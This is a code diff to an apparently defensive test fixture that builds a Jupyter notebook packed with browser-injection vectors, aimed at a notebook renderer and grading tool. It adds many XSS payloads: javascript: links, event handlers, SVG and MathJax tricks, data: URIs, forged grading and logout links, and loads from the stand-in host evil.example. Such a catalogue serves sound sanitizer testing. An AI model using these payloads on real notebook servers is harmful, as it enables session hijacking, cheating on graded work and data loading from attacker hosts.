@@ -1,11 +1,13 @@
 """A notebook stuffed with every way we know to run or load something in the reader's browser.
 
-Each vector calls `ran()`, which a test defines, or loads from `evil.example`.
+Each vector calls `ran()`, which a test defines, or loads from `evil.example`. `signed` writes the
+place of its cell into both, so that a test can name what ran.
 """
 
 from __future__ import annotations
 
 import base64
+import re
 from typing import Any
 
 EVIL = "https://evil.example/"
@@ -77,6 +79,46 @@ HTML = [
     "<table background='https://evil.example/table.png'><tr><td>a</table>",
     "</div></div></div></div></body></html><script>ran()</script>",
     NESTED_DIVS + "<img src=x onerror=ran()>",
+    "<a href='java&#10;script:ran()'>click</a>",
+    "<a href='\x01javascript:ran()'>click</a>",
+    "<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>",
+    "<svg><a><set attributeName=href to=javascript:ran() /><text y=9>click</text></a></svg>",
+    "<svg><a><animate attributeName=href values=javascript:ran() /><text>click</text></a></svg>",
+    f"<svg><use href='{SCRIPTED_URL}#x' /></svg>",
+    "<style>@keyframes x {}</style><p style='animation-name: x' onanimationstart=ran()>a</p>",
+    "<p style='width: expression(ran())'>a</p>",
+    "<link rel=stylesheet href='data:text/css,@import url(https://evil.example/data.css)'>",
+    "<script type=module>ran()</script>",
+    "<script type='text/x-mathjax-config'>ran()</script>",
+    "<script type='math/tex'>\\href{javascript:ran()}{click}</script>",
+    '<script type=\'application/vnd.jupyter.widget-view+json\'>{"model_id": "m"}</script>',
+    "<button autofocus onfocus=ran() onclick=ran()>click</button>",
+    "<p tabindex=1 autofocus onfocus=ran()>a</p>",
+    "<marquee onstart=ran()>a</marquee>",
+    "<dialog open><form method=dialog><button autofocus onfocus=ran()>a</button></form></dialog>",
+    "<embed src='javascript:parent.ran()'>",
+    "<p data-toggle=tooltip data-html=true title='<img src=x onerror=ran()>' id=tip>a</p>",
+    "<a data-link='../../../logout'>click</a>",
+    "<a data-commandlinker-command='terminal:create-new' href='#'>click</a>",
+    "<p>$\\href{javascript:ran()}{\\text{click}}$ and \\(\\href{javascript:ran()}{click}\\)</p>",
+    "<p>$&#92;href{javascript:ran()}{click}$ and $\\<!-- -->href{javascript:ran()}{click}$</p>",
+    f"<p>$\\style{{background: url({EVIL}math.png)}}{{x}}$</p>",
+]
+
+MATH = [
+    "\\href{javascript:ran()}{\\text{click}}",
+    "\\href{ JaVaScRiPt:ran()}{\\text{click}}",
+    "\\href{data:text/html;base64," + PAGE + "}{\\text{click}}",
+    "\\let\\x=\\href \\x{javascript:ran()}{\\text{click}}",
+    "\\def\\x{\\href} \\x{javascript:ran()}{\\text{click}}",
+    "\\class{full-credit}{click}",
+    "\\cssId{double}{click}",
+    f"\\style{{background: url({EVIL}style-math.png)}}{{x}}",
+    '\\unicode{65, x" onmouseover="ran()}',
+    "\\require{action} \\require{https://evil.example/require}",
+    '\\mmlToken{mi}[href="javascript:ran()"]{click}',
+    "\\texttip{x}{<img src=x onerror=ran()>}",
+    "\\text{<img src=x onerror=ran()>}",
 ]
 
 MARKDOWN = [
@@ -126,10 +168,37 @@ MARKDOWN = [
     "<img src='a.png'onerror=ran()>",
     "<img src=../../logout>",
     "> " * 400 + "deep",
+    *(f"a ${formula}$ b" for formula in MATH),
+    *(f"\\begin{{align}}{formula}\\end{{align}}" for formula in MATH[:2]),
+    "\\\\(\\href{javascript:ran()}{click}\\\\) and \\\\[\\href{javascript:ran()}{click}\\\\]",
+    "a &#36;&#92;href{javascript:ran()}{click}&#36; b",
+    "a $\\**href**{javascript:ran()}{click}$ and \\$\\\\href{javascript:ran()}{click}\\$ b",
+    "![x](data:image/svg+xml;base64," + SCRIPTED_URL.split(",")[1] + ")",
+    "![x](data:text/html;base64," + PAGE + ")",
+    '![x](attachment:x" onerror="ran().png)',
+    "[click](attachment:page.html)",
+    "[click]: javascript:ran()\n\n[click]",
+    "[click](/formgrader?path=submitted/mallory/functions)",
+    "[click](../../../FORMGRADER?path=submitted)",
+    "[click](../../manage_students/%3Cimg%20src=x%20onerror=ran()%3E)",
+    "[click](http://127.0.0.1:8888/formgr%61der/manage_students/%3Cimg%20src=x%20onerror=ran()%3E)",
+    "[click](/logout), [click](../../../logout), [click](//evil.example/x)",
+    "[click](\\\\evil.example), [click](https:/lab?reset), [click](https:lab)",
+    "[click](?index=1), [click](../next), [click](http:formgrader)",
+    "<a href='/lab/workspaces/x?reset'>click</a>",
+    "# double\n\nthe box of another question",
+    "double comment\n===\n\n## double_extra_credit",
+    "[^1] note\n\n[^1]: <img src=x onerror=ran()>",
 ]
 
 BARE = "<img src=x onerror=ran()>"
 QUOTED = '"><img src=x onerror=ran()>'
+VEGA = {
+    "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
+    "data": {"url": EVIL + "vegalite.json"},
+    "mark": {"type": "point", "href": "javascript:ran()"},
+    "usermeta": {"embedOptions": {"defaultStyle": BARE, "actions": True}},
+}
 STATE = {"state": {"m": {"model_name": BARE, "state": {"v": "</script>" + BARE}}}}
 DATA = [
     *({"text/html": html} for html in HTML),
@@ -139,7 +208,17 @@ DATA = [
     {"image/svg+xml": "<svg><script>ran()</script><circle></svg>"},
     {"text/latex": f"$x$ {BARE}"},
     {"text/latex": "$\\href{javascript:ran()}{x}$"},
+    *({"text/latex": f"${formula}$"} for formula in MATH),
+    *({"text/latex": f"\\begin{{align}}{formula}\\end{{align}}"} for formula in MATH[:2]),
     {"text/plain": BARE},
+    {"application/pdf": PAGE},
+    {"application/xhtml+xml": BARE, "text/xml": BARE},
+    {"application/vnd.vegalite.v5+json": VEGA},
+    {"application/vnd.vega.v5+json": {"marks": [], "data": [{"url": EVIL + "vega", "name": "x"}]}},
+    {"application/vnd.plotly.v1+json": {"data": [], "layout": {"title": BARE}}},
+    {"application/geo+json": {"type": "Point", "properties": {"url": EVIL + "geo"}}},
+    {"application/vnd.jupyter.error": {"name": BARE, "message": BARE}},
+    {"application/vnd.jupyter.es6-rich-output": "export default () => ran()"},
     {"text/vnd.mermaid": BARE},
     {"application/vnd.jupyter.widget-view+json": {"model_id": "m"}, "text/plain": BARE},
     {"application/vnd.evil+json": {"x": BARE}},
@@ -153,16 +232,39 @@ DATA = [
 def notebook() -> dict[str, Any]:
     """The stuffed notebook, as a plain dictionary."""
     return {
-        "cells": [*_markdown(), *_code(), *_odd()],
+        "cells": [signed(cell, place) for place, cell in enumerate(_cells())],
         "metadata": {
             "title": BARE,
-            "kernelspec": {"name": "python3", "display_name": "Python 3"},
-            "language_info": {"name": QUOTED, "pygments_lexer": QUOTED},
+            "authors": [{"name": BARE}],
+            "kernelspec": {"name": "python3", "display_name": BARE},
+            "language_info": {
+                "name": QUOTED,
+                "pygments_lexer": QUOTED,
+                "codemirror_mode": {"name": QUOTED},
+            },
             "widgets": {"application/vnd.jupyter.widget-state+json": STATE},
         },
         "nbformat": 4,
         "nbformat_minor": 5,
     }
+
+
+def _cells() -> list[dict[str, Any]]:
+    return [*_markdown(), *_code(), *_odd()]
+
+
+def signed(value: Any, place: int) -> Any:
+    """The value with `ran(place)` for each `ran()`, in its base64 too."""
+    if isinstance(value, list):
+        return [signed(item, place) for item in value]
+    if isinstance(value, dict):
+        return {signed(key, place): signed(item, place) for key, item in value.items()}
+    if not isinstance(value, str):
+        return value
+    for hidden in (PAGE, SCRIPTED_URL.split(",")[1]):
+        clear = base64.b64decode(hidden).replace(b"ran()", b"ran(%d)" % place)
+        value = value.replace(hidden, base64.b64encode(clear).decode())
+    return re.sub(r"\bran\(\)", f"ran({place})", value)
 
 
 def markdown(text: str, place: int) -> dict[str, Any]:
@@ -171,7 +273,10 @@ def markdown(text: str, place: int) -> dict[str, Any]:
         "id": f"m{place}",
         "metadata": {},
         "source": text,
-        "attachments": {"page.html": {"text/html": PAGE}},
+        "attachments": {
+            "page.html": {"text/html": PAGE, "image/svg+xml": SCRIPTED},
+            'x" onerror="ran().png': {"image/png": QUOTED},
+        },
     }
 
 
@@ -210,6 +315,7 @@ def _odd() -> list[dict[str, Any]]:
             {"output_type": "stream", "name": QUOTED, "text": BARE},
             {"output_type": "error", "ename": BARE, "evalue": BARE, "traceback": [BARE, BARE]},
             {"output_type": BARE, "text": BARE},
+            {"output_type": "update_display_data", "data": {"text/html": BARE}, "metadata": {}},
             {
                 "output_type": "execute_result",
                 "execution_count": BARE,
@@ -221,7 +327,7 @@ def _odd() -> list[dict[str, Any]]:
     )
     named["execution_count"] = BARE
     named["metadata"] = {
-        "tags": [QUOTED],
+        "tags": [QUOTED, "a full-credit mermaid"],
         "alt": QUOTED,
         "magics_language": QUOTED,
         "nbgrader": {"grade_id": QUOTED, "grade": True, "solution": True, "points": BARE},
